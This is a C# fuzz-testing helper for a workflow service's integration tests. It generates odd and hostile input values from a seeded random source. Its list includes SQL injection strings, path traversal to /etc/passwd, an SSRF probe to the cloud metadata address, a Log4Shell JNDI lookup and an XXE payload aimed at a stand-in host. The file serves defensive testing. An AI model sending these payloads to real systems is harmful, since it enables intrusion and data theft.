using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace NtmWorkflow.Integration.Service.Fuzz;

/// <summary>Values that people and attackers send and nobody means, drawn from a seed; some of them are real ones of the service.</summary>
/// <param name="random">Where they are drawn from.</param>
/// <param name="known">Ids, codes and names that the service knows, by the name of the value.</param>
internal sealed class Oddities(Random random, IReadOnlyDictionary<string, string> known)
{
    /// <summary>Shows up as a tag wherever something is not encoded.</summary>
    public const string Marker = "<ntm-x>";

    private static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\r\nX-Ntm: 1", "\u202Efdp.exe", "\uFFFF", "\uD800", "😀👨‍👩‍👧‍👦", "Thạch Thị Lài", "NULL", "undefined", "-1", "0", "1e309", "NaN", "2147483648", "9223372036854775808", "1,5", "٣",
        "0001-01-01", "9999-12-31", "2023-02-30", "2023-05-02T25:61:00Z", "31/04/2023", "00000000-0000-0000-0000-000000000000",
        "' OR 1=1 --", "\"; DROP TABLE Acts; --", "%' ESCAPE '", "../../../../etc/passwd", "..\\..\\web.config", "file:///etc/passwd", "http://169.254.169.254/", "//ai.example", "javascript:alert(1)", "=HYPERLINK(\"http://ai.example\")",
        "{{7*7}}", "${jndi:ldap://ai.example}", "%00", "%2e%2e%2f", "&#x0;", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Marker, $"\"'>{Marker}", "true", "[]", "{}", "met", "on",
    ];

    /// <summary>Whether something happens that happens so often of a hundred times.</summary>
    public bool Happens(int ofHundred) => random.Next(100) < ofHundred;

    /// <summary>One of several.</summary>
    public T Of<T>(IReadOnlyList<T> several) => several[random.Next(several.Count)];

    public int Count(int below) => random.Next(below);

    /// <summary>What a value of this name usually is; anything else now and then.</summary>
    public string Text(string name) => random.Next(10) < 7 && known.TryGetValue(name, out var usual) ? usual : Text();

    /// <summary>A text: a known one, an odd one, or a very long one.</summary>
    public string Text() => random.Next(20) switch
    {
        < 8 => Of([.. known.Values]),
        19 => new string(Of(['a', 'ệ', '(', '[', '\u0301']), random.Next(9_000)),
        _ => Of(Texts),
    };

    /// <summary>An odd value of any kind.</summary>
    public JsonNode? Node() => random.Next(9) switch
    {
        0 => null,
        1 => JsonValue.Create(Of<decimal>([-1, 0, 0.1m, 101, 2147483648, decimal.MaxValue, decimal.MinValue, 0.0000000000000000000001m])),
        2 => JsonValue.Create(Happens(50)),
        3 => new JsonArray([.. Enumerable.Range(0, random.Next(4)).Select(_ => (JsonNode?)Text())]),
        4 => new JsonObject { [Text()] = Text() },
        5 => Deep(random.Next(100)),
        _ => Text(),
    };

    /// <summary>A whole number as text, seldom an ordinary one.</summary>
    public string Number() => Of([0, 1, -1, 7, 31, 2023, 9999, 99999, int.MaxValue, int.MinValue]).ToString(CultureInfo.InvariantCulture);

    public byte[] Bytes()
    {
        byte[] bytes = [.. Of<byte[]>([[], "%PDF-1.7"u8.ToArray(), "PK\u0003\u0004"u8.ToArray(), "<svg onload='x'/>"u8.ToArray(), [0xFF, 0xFE, 0]]), .. new byte[random.Next(300)]];
        random.NextBytes(bytes.AsSpan(Math.Min(8, bytes.Length)));
        return bytes;
    }

    /// <summary>What can stand in an address: Kestrel refuses a null character before the service sees it, and half of a pair can't be written.</summary>
    public static string InAddress(string text) =>
        Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text.Length > 1_500 ? text[..1_500] : text)).Replace("\0", "", StringComparison.Ordinal);

    private static JsonArray Deep(int levels) => levels == 0 ? [] : [Deep(levels - 1)];
}
